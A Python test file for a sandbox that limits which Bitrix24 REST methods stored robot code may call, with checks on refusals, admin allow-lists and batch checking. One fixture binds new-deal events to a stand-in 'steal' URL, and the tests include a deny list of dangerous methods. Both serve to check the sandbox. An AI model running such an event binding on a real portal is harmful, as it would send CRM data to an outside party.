"""Which REST methods stored code reaches: the real pool, the real server, the simulator over HTTP."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from b24robots.errors import ConfigError
from b24robots.robots.spec import RobotSpec
from b24robots.sandbox import parse_patterns
from b24robots.testing.app_fixtures import RobotHarness

CALLS = """
def run(inputs, ctx):
    out = []
    for method in inputs["methods"].split(","):
        try:
            ctx.call(method, {"id": 1} if method.endswith(".get") else {})
            out.append(method + "=ok")
        except ctx.RestError as exc:
            out.append(method + "=" + exc.code)
    return {"result": ";".join(out)}
"""

BATCH = """
def run(inputs, ctx):
    commands = {name: [name.split(":")[0], {}] for name in inputs["methods"].split(",")}
    try:
        answer = ctx.batch(commands)
        return {"result": "sent " + ",".join(sorted(answer["result"]))}
    except ctx.RestError as exc:
        return {"result": exc.code + ": " + exc.description}
"""

UNCAUGHT = """
def run(inputs, ctx):
    ctx.call("event.bind", {"event": "ONCRMDEALADD", "handler": "https://elsewhere.example/steal"})
    return {"result": "bound"}
"""


def spec(code: str, **extra: Any) -> RobotSpec:
    return RobotSpec.from_document(
        {
            "code": code,
            "name": code,
            "use_subscription": "Y",
            "properties": {"methods": {"name": "Methods"}},
            "return_properties": {"result": {"name": "Result"}},
            **extra,
        }
    )


def portal_methods(h: RobotHarness) -> list[str]:
    return [c.method.lower() for c in h.sim.calls]


async def test_allowed_methods_reach_the_portal_and_forbidden_ones_never_do(tmp_path: Path) -> None:
    async with RobotHarness(data_dir=tmp_path) as h:
        h.portal.add_deal(TITLE="Deal one")
        h.svc.register.save(spec("st.calls"), CALLS, author="anna")
        await h.install()
        before = len(h.sim.calls)
        methods = "crm.deal.get,user.get,event.bind,placement.bind,bizproc.robot.delete,app.option.set,batch,Event.Bind"
        wf = await h.run_robot("st.calls", properties={"methods": methods})
        assert wf.return_values["result"] == (
            "crm.deal.get=ok;user.get=ok;event.bind=METHOD_NOT_ALLOWED;placement.bind=METHOD_NOT_ALLOWED;"
            "bizproc.robot.delete=METHOD_NOT_ALLOWED;app.option.set=METHOD_NOT_ALLOWED;batch=METHOD_NOT_ALLOWED;"
            "Event.Bind=METHOD_NOT_ALLOWED"
        )
        reached = portal_methods(h)[before:]
        assert "crm.deal.get" in reached and "user.get" in reached
        assert not {"event.bind", "placement.bind", "bizproc.robot.delete", "app.option.set"} & set(reached)
        # the refusal is in the robot's log (the workflow's and the journal's), naming method and rule
        inv = h.svc.journal.recent(robot="st.calls")[0]
        assert "b24robots: refused: event.bind is never available to stored code" in inv.log
        assert any("refused: placement.bind is never available" in e.message for e in wf.log)


async def test_an_uncaught_refusal_fails_the_run_naming_the_method(tmp_path: Path) -> None:
    async with RobotHarness(data_dir=tmp_path) as h:
        h.svc.runner.rules = type(h.svc.runner.rules)(max_attempts=1)
        h.svc.register.save(spec("st.bind"), UNCAUGHT, author="anna")
        await h.install()
        before = len(h.sim.calls)  # the install binds the server's own events
        await h.run_robot("st.bind", properties={"methods": ""})
        inv = h.svc.journal.recent(robot="st.bind")[0]
        assert inv.state == "dead"
        assert "METHOD_NOT_ALLOWED: event.bind is never available to stored code" in inv.error
        assert "event.bind" not in portal_methods(h)[before:]


async def test_the_setting_widens_and_narrows_the_list(tmp_path: Path) -> None:
    async with RobotHarness(data_dir=tmp_path) as h:
        h.portal.add_deal(TITLE="Deal one")
        # the admin's list: the default without users, plus profile; `never` entries stay refused
        h.svc.runner.methods = parse_patterns("default,!user.*,profile,event.*", "B24R_SANDBOX_METHODS")
        h.svc.register.save(spec("st.calls"), CALLS, author="anna")
        await h.install()
        wf = await h.run_robot("st.calls", properties={"methods": "crm.deal.get,user.get,profile,event.get"})
        assert wf.return_values["result"] == (
            "crm.deal.get=ok;user.get=METHOD_NOT_ALLOWED;profile=ok;event.get=METHOD_NOT_ALLOWED"
        )
        inv = h.svc.journal.recent(robot="st.calls")[0]
        assert "b24robots: refused: user.get is not in the methods stored code may call (B24R_SANDBOX_METHODS)" in (
            inv.log
        )


async def test_a_robot_narrows_its_own_methods_and_cannot_widen_them(tmp_path: Path) -> None:
    async with RobotHarness(data_dir=tmp_path) as h:
        h.portal.add_deal(TITLE="Deal one")
        narrowed = spec("st.narrow", methods=["crm.deal.*", "!crm.deal.delete", "profile"])
        h.svc.register.save(narrowed, CALLS, author="anna")
        await h.install()
        wf = await h.run_robot("st.narrow", properties={"methods": "crm.deal.get,crm.deal.delete,user.get,profile"})
        assert wf.return_values["result"] == (
            "crm.deal.get=ok;crm.deal.delete=METHOD_NOT_ALLOWED;user.get=METHOD_NOT_ALLOWED;profile=METHOD_NOT_ALLOWED"
        )
        inv = h.svc.journal.recent(robot="st.narrow")[0]
        assert (
            "b24robots: refused: user.get is not in the methods robot 'st.narrow' declares (its document's `methods`)"
            in inv.log
        )
        assert "crm.deal.delete" not in portal_methods(h)
        # the narrowing is part of the stored version: a new version without it widens back
        h.svc.register.save(spec("st.narrow"), CALLS, author="anna")
        wf = await h.run_robot("st.narrow", properties={"methods": "user.get"})
        assert wf.return_values["result"] == "user.get=ok"
        first = h.svc.register.version("st.narrow", 1).document
        assert first["methods"] == ["crm.deal.*", "!crm.deal.delete", "profile"]


async def test_a_batch_is_checked_command_by_command(tmp_path: Path) -> None:
    async with RobotHarness(data_dir=tmp_path) as h:
        h.portal.add_deal(TITLE="Deal one")
        h.svc.register.save(spec("st.batch"), BATCH, author="anna")
        await h.install()
        start = len(h.sim.calls)
        wf = await h.run_robot("st.batch", properties={"methods": "crm.deal.list,user.get"})
        assert wf.return_values["result"] == "sent crm.deal.list,user.get"
        sent = len(h.sim.calls)
        answered = portal_methods(h)[start:]  # the robot's batch, then the server's answer
        assert answered.count("batch") >= 2
        wf = await h.run_robot("st.batch", properties={"methods": "crm.deal.list,event.bind"})
        assert wf.return_values["result"] == (
            "METHOD_NOT_ALLOWED: batch command 'event.bind': event.bind is never available to stored code"
        )
        # nothing of a refused batch reaches the portal: only the server's answer does
        assert portal_methods(h)[sent:] == answered[1:]


def test_bad_patterns_are_refused_with_the_fix() -> None:
    with pytest.raises(ConfigError, match=r"B24R_SANDBOX_METHODS: 'crm deal' is not a method pattern"):
        parse_patterns("crm.*,crm deal", "B24R_SANDBOX_METHODS")
    from b24robots.errors import DeclarationError

    with pytest.raises(DeclarationError, match=r"robot 'st.x': 'crm/\*' is not a method pattern"):
        spec("st.x", methods=["crm/*"])
